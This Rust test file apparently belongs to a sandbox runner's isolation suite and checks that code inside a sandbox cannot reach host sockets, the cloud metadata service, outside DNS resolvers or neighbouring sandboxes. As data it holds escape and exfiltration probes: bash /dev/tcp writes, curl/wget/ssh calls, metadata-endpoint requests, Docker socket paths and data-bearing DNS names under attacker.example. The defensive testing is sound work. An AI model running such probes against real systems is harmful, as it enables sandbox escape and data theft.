//! Who can be reached from inside. The verdict is the other side's: it got nothing.

use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr, TcpListener, TcpStream, UdpSocket};
use std::os::linux::net::SocketAddrExt;
use std::os::unix::net::{SocketAddr as UnixAddr, UnixListener, UnixStream};
use std::process::Command;

use protocol::ledger::Verdict;
use sandbox_runner::sandbox::SandboxBackend;
use tokio::io::{AsyncReadExt, AsyncWriteExt};

use self::gateway::{ask_gateway, serve};
use crate::tests;
use crate::world::{Group, Pair, World, stdout};

mod gateway;

pub(crate) fn group(group: &mut Group<'_>) {
    tests!(
        group;
        a_service_of_the_host_is_not_reached_by_any_address,
        a_service_of_the_host_gets_no_datagram,
        an_abstract_socket_of_the_host_is_not_reached,
        a_socket_in_the_hosts_files_is_not_reached,
        the_runners_own_interface_is_not_reached,
        the_metadata_service_is_not_reached,
        nothing_outside_is_reached_by_curl_ssh_or_a_shell,
        a_name_is_not_resolved_by_an_outside_resolver,
        data_in_the_names_that_are_asked_for_goes_nowhere,
        another_sandboxs_port_is_not_reached,
        another_sandboxs_gateway_is_not_there,
        shared_memory_of_the_host_and_of_another_sandbox_is_not_there,
    );
    gateway::group(group);
}

/// Tries each address and says what came of it.
const CONNECT: &str = r#"
import socket, sys
for place in sys.argv[2:]:
    address, port = place.rsplit(" ", 1)
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    kind = socket.SOCK_STREAM if sys.argv[1] == "tcp" else socket.SOCK_DGRAM
    try:
        with socket.socket(family, kind) as one:
            one.settimeout(1)
            one.connect((address, int(port)))
            one.send(b"escaped")
            print(place, "REACHED" if kind == socket.SOCK_STREAM else "sent")
    except OSError as error:
        print(place, error)
"#;

/// Every address of this machine, the unspecified ones included, which mean itself.
fn addresses() -> Vec<IpAddr> {
    let mut addresses = vec![
        IpAddr::V4(Ipv4Addr::LOCALHOST),
        IpAddr::V4(Ipv4Addr::UNSPECIFIED),
        IpAddr::V4(Ipv4Addr::new(127, 9, 9, 9)),
        IpAddr::V6(Ipv6Addr::LOCALHOST),
    ];
    let listed = Command::new("hostname").arg("-I").output().unwrap();
    let listed = String::from_utf8(listed.stdout).unwrap();
    addresses.extend(
        listed
            .split_whitespace()
            .map(|text| text.parse::<IpAddr>().unwrap()),
    );
    addresses
}

/// One listener for both families, which sees whoever comes to any of the addresses.
fn host_listener() -> (TcpListener, u16) {
    let listener = TcpListener::bind("[::]:0")
        .or_else(|_| TcpListener::bind("0.0.0.0:0"))
        .unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    (listener, port)
}

fn places(port: u16) -> Vec<String> {
    addresses()
        .iter()
        .map(|address| format!("{address} {port}"))
        .collect()
}

async fn try_all(pair: &Pair, kind: &str, places: &[String]) -> String {
    let arguments: Vec<&str> = [kind]
        .into_iter()
        .chain(places.iter().map(String::as_str))
        .collect();
    let shown = stdout(&pair.attack(CONNECT, &arguments).await);
    assert_eq!(shown.lines().count(), places.len(), "{shown}");
    shown
}

async fn a_service_of_the_host_is_not_reached_by_any_address(world: &World) {
    let pair = world.pair().await;
    let (listener, port) = host_listener();
    let shown = try_all(pair, "tcp", &places(port)).await;
    assert!(!shown.contains("REACHED"), "{shown}");
    assert!(listener.accept().is_err(), "somebody came: {shown}");
    // From the host each of the addresses leads to it.
    for address in addresses() {
        TcpStream::connect((address, port)).unwrap();
        assert!(listener.accept().is_ok(), "{address}");
    }
    pair.assert_sound().await;
}

async fn a_service_of_the_host_gets_no_datagram(world: &World) {
    let pair = world.pair().await;
    let socket = UdpSocket::bind("[::]:0")
        .or_else(|_| UdpSocket::bind("0.0.0.0:0"))
        .unwrap();
    socket.set_nonblocking(true).unwrap();
    let port = socket.local_addr().unwrap().port();
    let shown = try_all(pair, "udp", &places(port)).await;
    assert!(socket.recv(&mut [0; 16]).is_err(), "{shown}");
    let from = UdpSocket::bind("127.0.0.1:0").unwrap();
    from.send_to(b"x", ("127.0.0.1", port)).unwrap();
    assert!(socket.recv(&mut [0; 16]).is_ok());
}

async fn an_abstract_socket_of_the_host_is_not_reached(world: &World) {
    let pair = world.pair().await;
    let name = format!("escape.{}", std::process::id());
    let address = UnixAddr::from_abstract_name(&name).unwrap();
    let listener = UnixListener::bind_addr(&address).unwrap();
    listener.set_nonblocking(true).unwrap();
    let program = "import socket, sys\n\
                   one = socket.socket(socket.AF_UNIX)\n\
                   try: one.connect('\\0' + sys.argv[1]); print('REACHED')\n\
                   except OSError as error: print(error)";
    let shown = stdout(&pair.attack(program, &[&name]).await);
    assert!(listener.accept().is_err(), "{shown}");
    UnixStream::connect_addr(&address).unwrap();
    assert!(listener.accept().is_ok());
}

async fn a_socket_in_the_hosts_files_is_not_reached(world: &World) {
    let pair = world.pair().await;
    // Where others keep the socket of their daemon, and beside the runner's own state.
    let path = pair.fixture.path().join("daemon.sock");
    let listener = UnixListener::bind(&path).unwrap();
    listener.set_nonblocking(true).unwrap();
    let program = "import socket, sys\n\
                   for path in sys.argv[1:]:\n\
                   \x20 for place in (path, '/proc/1/root' + path, '/../..' + path):\n\
                   \x20  try: socket.socket(socket.AF_UNIX).connect(place); print('REACHED', place)\n\
                   \x20  except OSError as error: print(error)";
    let paths = [
        path.to_str().unwrap(),
        "/var/run/docker.sock",
        "/run/containerd/containerd.sock",
        "/run/dbus/system_bus_socket",
        "/run/systemd/private",
    ];
    let shown = stdout(&pair.attack(program, &paths).await);
    assert!(!shown.contains("REACHED"), "{shown}");
    assert!(listener.accept().is_err());
    UnixStream::connect(&path).unwrap();
    assert!(listener.accept().is_ok());
}

async fn the_runners_own_interface_is_not_reached(world: &World) {
    let (pair, runner) = (world.pair().await, world.runner().await);
    let shown = try_all(pair, "tcp", &places(runner.address.port())).await;
    assert!(!shown.contains("REACHED"), "{shown}");
    // Nor by the one way out.
    let _serving = serve(pair).await;
    for request in [
        format!(
            "GET http://{}/healthz HTTP/1.1\r\nHost: x\r\n",
            runner.address
        ),
        format!("CONNECT {} HTTP/1.1\r\nHost: x\r\n", runner.address),
        format!("GET /healthz HTTP/1.1\r\nHost: {}\r\n", runner.address),
        format!(
            "POST /commands HTTP/1.1\r\nHost: {}\r\nContent-Length: 0\r\n",
            runner.address
        ),
    ] {
        let answer = ask_gateway(pair, &request).await;
        assert!(answer.starts_with("HTTP/1.1 4"), "{request}: {answer}");
        assert!(!answer.contains("\"status\":\"ok\""), "{answer}");
    }
    assert_eq!(runner.get("/healthz").await, 200);
}

async fn the_metadata_service_is_not_reached(world: &World) {
    let pair = world.pair().await;
    let places = [
        "169.254.169.254 80",
        "169.254.170.2 80",
        "100.100.100.200 80",
        "fd00:ec2::254 80",
        "fdaa::3 53",
    ];
    let shown = try_all(pair, "tcp", &places.map(str::to_owned)).await;
    // Not even a way there, rather than nobody who answers.
    assert_eq!(
        shown.matches("unreachable").count(),
        places.len(),
        "{shown}"
    );
    let serving = serve(pair).await;
    for request in [
        "GET http://169.254.169.254/latest/meta-data/ HTTP/1.1\r\nHost: 169.254.169.254\r\n",
        "GET /latest/meta-data/ HTTP/1.1\r\nHost: 169.254.169.254\r\n",
        "CONNECT 169.254.169.254:80 HTTP/1.1\r\nHost: 169.254.169.254\r\n",
        "GET http://metadata.google.internal/ HTTP/1.1\r\nHost: metadata.google.internal\r\n\
         Metadata-Flavor: Google\r\n",
        "GET http://[fd00:ec2::254]/ HTTP/1.1\r\nHost: x\r\n",
        "GET http://2852039166/ HTTP/1.1\r\nHost: 2852039166\r\n",
    ] {
        let answer = ask_gateway(pair, request).await;
        assert!(answer.starts_with("HTTP/1.1 4"), "{request}: {answer}");
    }
    let allowed = serving
        .ledger()
        .list()
        .into_iter()
        .any(|contact| contact.verdict == Verdict::Allowed);
    assert!(!allowed);
}

async fn nothing_outside_is_reached_by_curl_ssh_or_a_shell(world: &World) {
    let pair = world.pair().await;
    let (listener, port) = host_listener();
    let address = addresses().into_iter().rfind(IpAddr::is_ipv4).unwrap();
    let script = format!(
        "curl -sS --max-time 2 http://{address}:{port}/ && echo REACHED\n\
         bash -c 'echo x > /dev/tcp/{address}/{port}' && echo REACHED\n\
         bash -c 'echo x > /dev/udp/{address}/{port}'\n\
         timeout 3 git ls-remote http://{address}:{port}/x.git && echo REACHED\n\
         command -v ssh && ssh -o BatchMode=yes -o ConnectTimeout=2 -p {port} {address} true && echo REACHED\n\
         command -v wget && wget -T 2 -t 1 http://{address}:{port}/ && echo REACHED\n\
         timeout 3 getent hosts example.com && echo REACHED\n\
         true"
    );
    let output = pair.fixture.run(&pair.attacker.id, &script).await;
    let shown = stdout(&output);
    assert!(!shown.contains("REACHED"), "{shown}");
    assert!(listener.accept().is_err());
}

/// A question for the text record of a name, and whether anybody answered it.
const ASK: &str = r#"
import socket, struct, sys
name, answered = sys.argv[1], []
question = b"".join(bytes([len(label)]) + label.encode() for label in name.split(".")) + b"\0"
query = struct.pack(">6H", 7, 0x100, 1, 0, 0, 0) + question + struct.pack(">2H", 16, 1)
resolvers = [line.split()[1] for line in open("/etc/resolv.conf") if line.startswith("nameserver")]
for place in sys.argv[2:] + [f"{one} 53" for one in resolvers + ["127.0.0.1", "127.0.0.53", "::1"]]:
    address, port = place.rsplit(" ", 1)
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
        try:
            with socket.socket(family, kind) as one:
                one.settimeout(1)
                one.connect((address, int(port)))
                one.send(query if kind == socket.SOCK_DGRAM else struct.pack(">H", len(query)) + query)
                reply = one.recv(512)[0 if kind == socket.SOCK_DGRAM else 2:]
                rcode, answers = reply[3] & 15, struct.unpack_from(">H", reply, 6)[0]
                if rcode == 0 and answers:
                    answered.append(place)
        except OSError:
            pass
try:
    answered.append(socket.getaddrinfo(name, 80)[0][4])
except OSError:
    pass
print("ANSWERED" if answered else "nobody", answered)
"#;

async fn a_name_is_not_resolved_by_an_outside_resolver(world: &World) {
    let pair = world.pair().await;
    let resolver = UdpSocket::bind("[::]:0")
        .or_else(|_| UdpSocket::bind("0.0.0.0:0"))
        .unwrap();
    resolver.set_nonblocking(true).unwrap();
    let port = resolver.local_addr().unwrap().port();
    let mut places = places(port);
    places.extend(["8.8.8.8 53", "1.1.1.1 53", "2001:4860:4860::8888 53"].map(str::to_owned));
    let arguments: Vec<&str> = ["example.com"]
        .into_iter()
        .chain(places.iter().map(String::as_str))
        .collect();
    let shown = stdout(&pair.attack(ASK, &arguments).await);
    assert_eq!(shown, "nobody []");
    assert!(resolver.recv(&mut [0; 512]).is_err());
}

async fn data_in_the_names_that_are_asked_for_goes_nowhere(world: &World) {
    let pair = world.pair().await;
    let serving = serve(pair).await;
    for number in 0..3 {
        let name = format!("c2VjcmV0LW51bWJlci1{number}.exfiltrated.attacker.example");
        let shown = stdout(&pair.attack(ASK, &[&name]).await);
        assert_eq!(shown, "nobody []");
    }
    let contacts = serving.ledger().list();
    let allowed = contacts
        .iter()
        .any(|contact| contact.verdict == Verdict::Allowed);
    assert!(!allowed, "{contacts:?}");
}

async fn another_sandboxs_port_is_not_reached(world: &World) {
    let pair = world.pair().await;
    let server = "import socket, sys\n\
                  tcp = socket.create_server(('0.0.0.0', 4097))\n\
                  unix = socket.socket(socket.AF_UNIX)\n\
                  unix.bind('\\0escape-neighbour'); unix.listen()\n\
                  print('up', flush=True)\n\
                  stream, _ = tcp.accept()\n\
                  print(stream.recv(16).decode(), flush=True)";
    let spec = sandbox_runner::init::wire::ExecSpec::new(
        [crate::world::PYTHON, "-c", server],
        crate::world::LIMIT,
    );
    let neighbour = &pair.neighbour.id;
    let mut running = pair.fixture.backend.exec(neighbour, &spec).await.unwrap();
    running.next().await.unwrap();

    let places: Vec<String> = places(4097);
    let shown = try_all(pair, "tcp", &places).await;
    assert!(!shown.contains("REACHED"), "{shown}");
    let program = "import socket\n\
                   try: socket.socket(socket.AF_UNIX).connect('\\0escape-neighbour'); print('REACHED')\n\
                   except OSError as error: print('refused')";
    assert_eq!(stdout(&pair.attack(program, &[]).await), "refused");
    // The first that comes is whom the runner leads there.
    let mut stream = pair.fixture.backend.dial(neighbour, 4097).await.unwrap();
    stream.write_all(b"the runner").await.unwrap();
    let _ = stream.read(&mut [0; 1]).await;
    let output = running.output().await.unwrap();
    assert_eq!(stdout(&output), "the runner");
}

async fn another_sandboxs_gateway_is_not_there(world: &World) {
    let pair = world.pair().await;
    let script =
        "ls -A /run/gateway | wc -l; ls -d /run/*/../../*/gateway.sock 2> /dev/null | wc -l";
    let shown = stdout(&pair.fixture.run(&pair.attacker.id, script).await);
    assert!(matches!(shown.as_str(), "0\n0" | "1\n0"), "{shown}");
    for sandbox in [&pair.neighbour.id, &pair.attacker.id] {
        let path = pair.fixture.directory(sandbox);
        let script = format!(
            "ls -d {0} /proc/self/root{0} /proc/1/root{0}",
            path.display()
        );
        let output = pair.fixture.run(&pair.attacker.id, &script).await;
        assert!(output.stdout.is_empty(), "{output:?}");
    }
}

async fn shared_memory_of_the_host_and_of_another_sandbox_is_not_there(world: &World) {
    let pair = world.pair().await;
    // System V memory by its key, a POSIX queue and a file for shared memory by their names.
    let key = std::process::id().to_string();
    let make = "import ctypes, os, sys\n\
                libc = ctypes.CDLL(None)\n\
                shared = libc.shmget(int(sys.argv[1]), 4096, 0o1666)\n\
                assert shared >= 0\n\
                open('/dev/shm/escape.' + sys.argv[1], 'w').write('x')\n\
                print(shared)";
    let look = "import ctypes, os, sys\n\
                libc = ctypes.CDLL(None)\n\
                print(libc.shmget(int(sys.argv[1]), 4096, 0), os.path.exists('/dev/shm/escape.' + sys.argv[1]))";
    let host = Command::new(crate::world::PYTHON)
        .args(["-c", make, &key])
        .output()
        .unwrap();
    assert!(host.status.success());
    let inside = crate::world::python(&pair.fixture, &pair.neighbour.id, make, &[&key]).await;
    stdout(&inside);
    let shown = stdout(&pair.attack(look, &[&key]).await);
    // Whoever made it sees it.
    let seen = Command::new(crate::world::PYTHON)
        .args(["-c", look, &key])
        .output()
        .unwrap();
    let seen = String::from_utf8(seen.stdout).unwrap();
    let shared = String::from_utf8(host.stdout).unwrap();
    let removed = Command::new("ipcrm")
        .args(["-m", shared.trim()])
        .status()
        .unwrap();
    std::fs::remove_file(format!("/dev/shm/escape.{key}")).unwrap();
    assert!(removed.success());
    assert!(
        seen.ends_with("True\n") && !seen.starts_with("-1"),
        "{seen}"
    );
    assert_eq!(shown, "-1 False");
}
